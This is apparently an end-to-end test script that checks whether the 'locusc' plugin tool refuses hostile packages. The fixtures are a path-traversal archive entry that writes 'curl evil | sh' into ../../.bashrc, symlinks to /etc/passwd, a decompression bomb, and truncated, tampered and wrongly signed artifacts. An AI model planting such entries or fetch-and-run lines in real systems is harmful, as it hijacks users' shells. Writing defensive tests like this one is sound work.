#!/usr/bin/env bash
# Hostile packages through the real locusc: archives with a path leaving the package, a symbolic
# link, a device-free but oversized file (a decompression bomb), a truncated download, a tampered
# artifact, a re-indexed tampered artifact (bad signature) and an untrusted publisher. Each is
# refused with a clear error, and nothing is installed (the lock and the store stay unchanged).
# ~5 s. Usage: hostile_e2e.sh LOCUSC SOURCE_DIR
source "$(dirname "$0")/e2e_helpers.sh" "$@"
# refused OUT CMD...: the command must fail; its output goes to OUT.
refused() { local out=$1; shift; if "$@" > "$out" 2>&1; then cat "$out" >&2; fail "accepted: $*"; fi; }

REG="$WORK/registry"
cd "$WORK"
"$LOCUSC" plugin keygen -o "$WORK/publisher" > /dev/null
"$LOCUSC" plugin keygen -o "$WORK/stranger" > /dev/null

# A good package to start from, published and installed.
"$LOCUSC" plugin pack "$SRC/examples/plugins/naming-lint" -o good.tgz > /dev/null
"$LOCUSC" plugin sign good.tgz --key publisher.key > /dev/null
"$LOCUSC" plugin publish good.tgz --registry "file://$REG" --channel ga > /dev/null

# pack refuses a symbolic link that leaves the plugin folder.
cp -r "$SRC/examples/plugins/naming-lint" linked
ln -s /etc/passwd linked/passwd
refused pack.out "$LOCUSC" plugin pack linked -o linked.tgz
expect "passwd" pack.out
[ ! -e linked.tgz ] || fail "pack wrote an archive with an escaping link"

# Hand-made archives: the good package's files plus one hostile entry each.
mkdir unpacked && tar -xzf good.tgz -C unpacked
python3 - "$WORK" <<'PY'
import io, os, sys, tarfile
work = sys.argv[1]
base = os.path.join(work, "unpacked")
def build(name, extra):
    with tarfile.open(os.path.join(work, name), "w:gz") as t:
        for root, _, files in os.walk(base):
            for f in sorted(files):
                p = os.path.join(root, f)
                t.add(p, arcname=os.path.relpath(p, base))
        extra(t)
def file_entry(path, data):
    def add(t):
        info = tarfile.TarInfo(path); info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return add
def link_entry(t):
    info = tarfile.TarInfo("escape"); info.type = tarfile.SYMTYPE; info.linkname = "/etc/passwd"
    t.addfile(info)
build("traversal.tgz", file_entry("../../.bashrc", b"curl evil | sh\n"))
build("symlink.tgz", link_entry)
build("bomb.tgz", file_entry("zeros.bin", bytes(40 << 20)))  # 40 MB of zeros, ~40 KB packed
PY
for bad in traversal symlink bomb; do
  "$LOCUSC" plugin sign $bad.tgz --key publisher.key > /dev/null
done
refused publish.out "$LOCUSC" plugin publish traversal.tgz --registry "file://$REG"
expect 'leaves the package ("..")' publish.out
refused publish.out "$LOCUSC" plugin publish symlink.tgz --registry "file://$REG"
expect "escape: a symbolic link" publish.out
refused publish.out "$LOCUSC" plugin publish bomb.tgz --registry "file://$REG"
expect "decompresses to more than" publish.out
refused verify.out "$LOCUSC" plugin verify traversal.tgz --pubkey publisher.pub
expect "leaves the package" verify.out

# A truncated download: half the archive, with a signature over those bytes.
head -c $(( $(stat -c %s good.tgz) / 2 )) good.tgz > cut.tgz
"$LOCUSC" plugin sign cut.tgz --key publisher.key > /dev/null
refused publish.out "$LOCUSC" plugin publish cut.tgz --registry "file://$REG"
expect "truncated or corrupt" publish.out

# A project trusting the publisher.
mkdir project && cd project
cp "$SRC"/examples/scaffold/*.locus .
cat > Locus.toml <<TOML
[registries.default]
url = "file://$REG"
keys = ["$(sed -n 2p ../publisher.pub)"]
TOML
nothing_installed() {
  [ ! -e locus.lock ] || fail "a refused install wrote locus.lock"
  [ -z "$(ls -A .locus/packages/store 2>/dev/null)" ] || fail "a refused install left files"
}

# A tampered artifact in the registry (its bytes changed after publishing).
SHA=$(sha256sum ../good.tgz | cut -d' ' -f1)
cp "$REG/artifacts/$SHA.tgz" ../pristine.tgz
printf 'x' >> "$REG/artifacts/$SHA.tgz"
refused install.out "$LOCUSC" plugin install naming-lint
expect "does not match its SHA-256" install.out
expect "Nothing was installed" install.out
nothing_installed

# The same, with the index rewritten to name the tampered bytes: the signature no longer holds.
NEWSHA=$(sha256sum "$REG/artifacts/$SHA.tgz" | cut -d' ' -f1)
mv "$REG/artifacts/$SHA.tgz" "$REG/artifacts/$NEWSHA.tgz"
cp "$REG/artifacts/$SHA.tgz.minisig" "$REG/artifacts/$NEWSHA.tgz.minisig"
sed -i "s/$SHA/$NEWSHA/g" "$REG/index/naming-lint.json"
refused install.out "$LOCUSC" plugin install naming-lint
expect "signature check failed" install.out
nothing_installed

# Restored bytes, signed by a key the project does not trust.
cp ../pristine.tgz "$REG/artifacts/$NEWSHA.tgz"
sed -i "s/$NEWSHA/$SHA/g" "$REG/index/naming-lint.json"
mv "$REG/artifacts/$NEWSHA.tgz" "$REG/artifacts/$SHA.tgz"
cp ../pristine.tgz ../resigned.tgz
"$LOCUSC" plugin sign ../resigned.tgz --key ../stranger.key > /dev/null
cp ../resigned.tgz.minisig "$REG/artifacts/$SHA.tgz.minisig"
refused install.out "$LOCUSC" plugin install naming-lint
expect "signature check failed" install.out
expect "$(sed -n 1p ../stranger.pub | awk '{print $NF}')" install.out
nothing_installed

# With the publisher's signature back, the install succeeds.
cp ../good.tgz.minisig "$REG/artifacts/$SHA.tgz.minisig"
"$LOCUSC" plugin install naming-lint > install.out
expect "+ naming-lint 1.0.0" install.out
echo "hostile packages: 9 passed, 0 failed"
